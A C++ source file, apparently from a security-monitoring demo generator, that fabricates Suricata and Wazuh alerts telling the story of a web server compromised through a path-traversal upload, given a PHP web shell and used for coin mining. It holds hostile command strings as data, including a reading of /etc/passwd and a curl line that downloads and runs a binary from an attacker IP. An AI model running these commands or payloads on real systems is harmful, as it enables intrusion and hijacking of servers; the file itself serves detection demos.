// A public web server is exploited, gets a web shell, and mines coins over the weekend.
#include "demo/stories.h"

namespace tocsin::demo {
namespace {

using std::chrono::hours;
using std::chrono::minutes;

struct Cast {
  const Host& server;
  std::string attacker;
  std::string pool;
  std::string shell_hash;
};

void exploit(StoryWriter& story, const Cast& cast, int signature_id, std::string signature, std::string url) {
  story.send(suricata(story.scene(), {.at = story.at(),
                                      .signature_id = signature_id,
                                      .signature = std::move(signature),
                                      .category = "Web Application Attack",
                                      .severity = 1,
                                      .source = {cast.attacker, story.random().ephemeral_port()},
                                      .destination = {cast.server.ip, 443},
                                      .app = "http",
                                      .app_fields = {{"hostname", "www.northmere.example"},
                                                     {"url", std::move(url)},
                                                     {"http_user_agent", "python-requests/2.31.0"},
                                                     {"http_method", "POST"},
                                                     {"status", 200}},
                                      .techniques = {attack::kPublicApp}}));
}

void drop_shell(StoryWriter& story, const Cast& cast) {
  auto scene = story.scene();
  const std::string path = "/var/www/html/uploads/thumb_cache.php";
  story.send(wazuh(
      scene, {.at = story.at(),
              .level = 12,
              .rule_id = "100510",
              .description = "Script file added to an upload folder of the web server, possible web shell",
              .groups = {"syscheck", "web", "local"},
              .agent = &cast.server,
              .decoder = "syscheck_new_entry",
              .location = "syscheck",
              .full_log = "File '" + path + "' added\nMode: realtime\n",
              .syscheck = {{"path", path},
                           {"event", "added"},
                           {"mode", "realtime"},
                           {"uname_after", "www-data"},
                           {"sha256_after", cast.shell_hash}},
              .techniques = {attack::kWebShell}}));
}

void run_commands(StoryWriter& story, const Cast& cast, const std::string& command) {
  story.send(
      wazuh(story.scene(),
            {.at = story.at(),
             .level = 13,
             .rule_id = "100531",
             .description = "Shell started by the web server's user",
             .groups = {"audit", "audit_command", "local"},
             .agent = &cast.server,
             .decoder = "auditd",
             .location = "/var/log/audit/audit.log",
             .full_log = "type=EXECVE msg=audit: argc=3 a0=\"sh\" a1=\"-c\" a2=\"" + command + '"',
             .data = {{"srcip", cast.attacker},
                      {"audit",
                       json::object{{"exe", "/usr/bin/dash"},
                                    {"command", "sh"},
                                    {"uid", "33"},
                                    {"execve", json::object{{"a0", "sh"}, {"a1", "-c"}, {"a2", command}}}}}},
             .techniques = {attack::kUnixShell}}));
}

void download(StoryWriter& story, const Cast& cast) {
  story.send(
      suricata(story.scene(),
               {.at = story.at(),
                .signature_id = 2848322,
                .signature = "ET HUNTING ELF Binary Fetched by Web Server over HTTP",
                .category = "Potentially Bad Traffic",
                .severity = 2,
                .source = {cast.server.ip, story.random().ephemeral_port()},
                .destination = {cast.attacker, 8080},
                .app = "http",
                .app_fields = {{"hostname", cast.attacker}, {"url", "/kworkerds"}, {"http_method", "GET"}},
                .techniques = {attack::kToolTransfer}}));
}

void mine(StoryWriter& story, const Cast& cast) {
  story.send(suricata(story.scene(), {.at = story.at(),
                                      .signature_id = 2847745,
                                      .signature = "ET COINMINER Stratum Login to Mining Pool",
                                      .category = "Crypto Currency Mining Activity Detected",
                                      .severity = 2,
                                      .source = {cast.server.ip, story.random().ephemeral_port()},
                                      .destination = {cast.pool, 3333},
                                      .techniques = {attack::kHijacking}}));
}

}  // namespace

void write_web_shell_miner(StoryWriter& story) {
  const Cast cast{story.company().hosts[story.company().web_server], story.random().public_ip(),
                  story.random().public_ip(), story.random().hex(64)};
  exploit(story, cast, 2847101, "ET WEB_SERVER Path Traversal Attempt in Upload Parameter",
          "/media/upload?dir=..%2f..%2fhtml%2fuploads");
  exploit(story.after(minutes(3)), cast, 2847102,
          "ET WEB_SPECIFIC_APPS Media Manager Unauthenticated File Upload",
          "/media/upload?dir=..%2fuploads&name=thumb_cache.php");
  drop_shell(story.after(minutes(1)), cast);
  run_commands(story.after(minutes(21)), cast, "id; uname -a; cat /etc/passwd");
  run_commands(story.after(minutes(4)), cast,
               "curl -s http://" + cast.attacker + ":8080/kworkerds -o /tmp/.k && /tmp/.k");
  download(story.after(minutes(1)), cast);
  for (int i = 0; i < 5; ++i) mine(story.after(i == 0 ? minutes(5) : hours(3)), cast);
}

}  // namespace tocsin::demo
